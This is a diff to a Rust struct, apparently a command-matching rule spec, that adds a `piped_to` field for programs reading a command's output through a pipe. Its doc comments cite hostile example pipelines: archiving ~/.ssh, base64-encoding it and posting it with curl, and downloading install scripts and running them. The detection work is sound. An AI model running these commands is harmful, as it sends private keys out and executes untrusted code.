@@ -137,6 +137,11 @@ pub struct CommandSpec {
     /// other commands of the pipeline (`ps` in `ps aux | grep x`).
     #[serde(default, deserialize_with = "one_or_many")]
     pub piped_from: Vec<String>,
+    /// Programs, one of which must read the command's output through a pipe, directly or through
+    /// other commands of the pipeline (`curl` in `tar cz ~/.ssh | base64 | curl -d @- URL`),
+    /// whatever it does with it; `piped_into` asks for a shell that runs it.
+    #[serde(default, deserialize_with = "one_or_many")]
+    pub piped_to: Vec<String>,
     /// Programs, one of which must run, later in the same call, the file the command saves its
     /// download to (`curl -o i.sh URL && bash i.sh`, `wget URL/install.sh; sh install.sh`); the
     /// file run as a program counts too (`chmod +x i.sh && ./i.sh`). For curl and wget: `-o`,
